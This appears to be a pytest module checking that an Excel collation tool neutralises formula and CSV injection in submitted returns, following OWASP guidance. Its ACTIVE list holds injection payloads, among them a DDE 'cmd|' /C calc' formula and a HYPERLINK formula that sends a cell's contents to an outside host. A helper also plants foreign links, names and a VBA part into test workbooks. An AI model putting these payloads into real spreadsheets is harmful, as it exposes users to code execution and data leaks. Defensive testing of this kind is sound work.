"""Nothing of a return becomes active in any output: each formula, link, name, picture and rule is ours."""

from __future__ import annotations

import csv
import io
import re
from itertools import cycle
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arf_excel.collation.collate import Outcome, collate
from arf_excel.collation.ledger import USED
from arf_excel.form.sheets import row_ids_of, shape_of, table_order
from arf_excel.form.tables import RECORDS, answer_columns
from arf_excel.form.tables import field as field_of
from arf_excel.form.write import write_form
from arf_excel.framework.answers import Answers
from arf_excel.framework.edition import load_edition
from arf_excel.intake.reader import read_return
from arf_excel.rounds.settings import Round
from arf_excel.workbook.csv_file import as_it_was, csv_text
from tests.collation.returns import a_round, expected
from tests.hostile import plain
from tests.intake import hostile as made

ACTIVE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"look here")',
    '=WEBSERVICE("https://example.org/")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "{=1+1}",
    "https://example.org/click",
    "file://///example.org/share/a.xlsx",
    "mailto:nobody",
    "internal:Organisation!A1",
    "#REF!",
    "<f>1+1</f>",
    ']]><f>1+1</f><v>2</v><t a="',
    '"><hyperlink ref="A1"/>',
    "arf_checklist_how",
    "&A&D&[Picture]",
    "[bold]markup[/]\n=1+1",
    "'=1+1",
    ";=1+1",
    '",=1+1',
]
SHAPE = shape_of(load_edition(), "bronze", evidence_rows=6, action_rows=4)
_RISKY = ("=", "+", "-", "@", "\t", "\r", "\n")
"""The seven that OWASP names."""


def plain_words(text: str) -> str:
    """Words of the same length, at the same places, that nobody takes for anything."""
    return re.sub(r"\S", "x", text)


def filled(code: str, *, active: bool) -> Answers:
    """Every cell for text holds a dangerous text, or words as long."""
    texts = cycle(ACTIVE)
    cells: dict[tuple[str, str, str], object] = {}
    for table in table_order(SHAPE):
        for row in row_ids_of(SHAPE, table):
            for column in ("answer",) if table in RECORDS else answer_columns(table):
                field = field_of(table, row, column)
                if field.kind == "text" and not field.cell.choices:
                    text = next(texts)
                    cells[table, row, column] = text if active else plain_words(text)
    for deliverable in SHAPE.deliverables:
        cells["checklist", deliverable.id, "status"] = "In place"
    cells["organisation", "code", "answer"] = code
    return Answers(cells)


def stuffed(path: Path) -> None:
    """Links, names, rules, pictures and another workbook put into a form beside its cells."""
    contents = plain.parts_of(path.read_bytes())
    sheet = plain.part_of("Organisation")
    more = (
        '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>FOREIGN()</formula></cfRule>'
        '</conditionalFormatting><dataValidations><dataValidation sqref="A1"><formula1>FOREIGN()</formula1>'
        '</dataValidation></dataValidations><hyperlinks><hyperlink ref="C6" location="FOREIGN"/>'
        f'<hyperlink xmlns:r="{made.OFFICE}" ref="C7" r:id="foreign"/></hyperlinks>'
    )
    name = '<definedNames><definedName name="foreign">FOREIGN()</definedName>'
    rels = sheet.replace("worksheets/", "worksheets/_rels/") + ".rels"
    link = (
        f'<Relationship Id="foreign" Type="{made.OFFICE}/hyperlink" Target="https://example.org/foreign" '
        'TargetMode="External"/></Relationships>'
    )
    contents = plain.changed_in(contents, sheet, ("</sheetData>", "</sheetData>" + more))
    contents = plain.changed_in(contents, rels, ("</Relationships>", link))
    contents = plain.changed_in(contents, plain.WORKBOOK, ("<definedNames>", name))
    contents = plain.related("externalLink", "externalLinks/externalLink1.xml", contents=contents)
    contents |= {"xl/externalLinks/externalLink1.xml": b"<foreign/>", "xl/media/image1.png": b"foreign"}
    path.write_bytes(plain.packed(contents | {"xl/vbaProject.bin": b"foreign"}))


def region() -> Round:
    return a_round(expected("X01"), expected("X02"))


def collated(folder: Path, *, active: bool) -> Outcome:
    for code in ("X01", "X02"):
        path = folder / "in" / f"{code}.xlsx"
        write_form(path, SHAPE, filled(code, active=active))
        if active:
            stuffed(path)
    return collate([folder / "in"], folder / "pack", region(), copies=True, read=read_return)


@pytest.fixture(scope="module")
def runs(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[dict[str, plain.Parts], dict[str, plain.Parts], Path]:
    """The parts of every workbook of a run with dangerous texts, and of one with harmless texts."""
    folder = tmp_path_factory.mktemp("active")
    both = []
    for active in (True, False):
        outcome = collated(folder / str(active), active=active)
        assert [line.outcome for line in outcome.ledger] == [USED, USED]
        pack = folder / str(active) / "pack"
        both.append(
            {
                path.relative_to(pack).as_posix(): plain.parts_of(path.read_bytes())
                for path in outcome.written
                if path.suffix == ".xlsx"
            }
        )
    return both[0], both[1], folder / "True" / "pack"


Runs = tuple[dict[str, plain.Parts], dict[str, plain.Parts], Path]
FORMULAS = re.compile(rb"<(?:f|formula|formula1|formula2)(?: [^>]*)?>([^<]*)</")
NAMES = re.compile(rb"<definedName [^>]*>[^<]*</definedName>")
LINKS = re.compile(rb"<hyperlink [^>]*>")
RELATIONS = re.compile(rb"<Relationship [^>]*>")


def found(workbooks: dict[str, plain.Parts], pattern: re.Pattern[bytes]) -> set[tuple[str, bytes]]:
    """Workbook and what the pattern finds in its parts."""
    return {
        (name, words)
        for name, parts in workbooks.items()
        for data in parts.values()
        for words in pattern.findall(data)
    }


def test_the_run_writes_workbooks_of_every_kind(runs: Runs) -> None:
    active, calm, _ = runs
    assert active.keys() == calm.keys()
    assert {"review-pack.xlsx", "office.xlsx", "regional-summary.xlsx"} < active.keys()
    assert sum(name.startswith("to-look-at/") for name in active) == 2
    texts = b"".join(parts.get("xl/sharedStrings.xml", b"") for parts in active.values())
    assert b"=cmd|" in texts and b"https://example.org/click" in texts, "they are there, as text"


@pytest.mark.parametrize(
    "pattern", [FORMULAS, NAMES, LINKS, RELATIONS], ids=["formulas", "names", "links", "parts"]
)
def test_what_can_act_is_the_same_as_with_harmless_texts(runs: Runs, pattern: re.Pattern[bytes]) -> None:
    active, calm, _ = runs
    assert found(calm, pattern)
    assert found(active, pattern) == found(calm, pattern)


def test_the_parts_are_the_same_as_with_harmless_texts(runs: Runs) -> None:
    active, calm, _ = runs
    assert {n: p.keys() for n, p in active.items()} == {n: p.keys() for n, p in calm.items()}


def test_nothing_leads_outside_and_nothing_is_foreign(runs: Runs) -> None:
    active, _, pack = runs
    assert not found(active, re.compile(rb'TargetMode="External"'))
    words = b"|".join(
        (b"vbaProject", b"externalLink", b"embeddings", b"activeX", b"connections", b"ctrlProps")
    )
    assert not [n for parts in active.values() for n in parts if re.search(words, n.encode())]
    for path in pack.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert b"foreign" not in data.lower(), path.name
    assert not found(active, re.compile(rb"FOREIGN"))


def test_no_header_or_footer_takes_words_of_a_return(runs: Runs) -> None:
    """There '&' begins a command."""
    active, calm, _ = runs
    marks = re.compile(rb"<(?:odd|even|first)(?:Header|Footer)>([^<]*)<")
    assert found(active, marks) == found(calm, marks)


def test_the_ledger_opens_without_a_formula(runs: Runs) -> None:
    text = (runs[2] / "ledger.csv").read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 3
    assert not [cell for row in rows for cell in row if cell.startswith(_RISKY)]


# CSV as OWASP says


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
    ],
)
def test_the_two_examples_of_owasp(text: str, cell: str) -> None:
    assert csv_text(["File"], [[text]]).splitlines() == ['\ufeff"File"', cell]


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_comes_back_from_a_csv_file(text: str) -> None:
    made = csv_text(["File", "Why"], [[text, "x"]]).removeprefix("\ufeff")
    row = list(csv.reader(io.StringIO(made, newline="")))[1]
    assert not row[0].startswith(_RISKY)
    assert as_it_was(row[0]) == text
